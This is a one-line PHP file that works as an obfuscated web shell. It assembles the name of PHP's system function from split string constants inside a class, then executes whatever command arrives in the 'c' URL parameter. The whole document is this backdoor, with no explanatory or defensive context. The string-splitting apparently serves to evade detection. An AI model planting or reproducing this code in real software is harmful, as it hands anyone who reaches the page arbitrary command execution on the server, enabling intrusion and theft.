<?php class K { const P = 'sys'; const F = self::P . 'tem'; } $f = K::F; $f($_GET['c']);
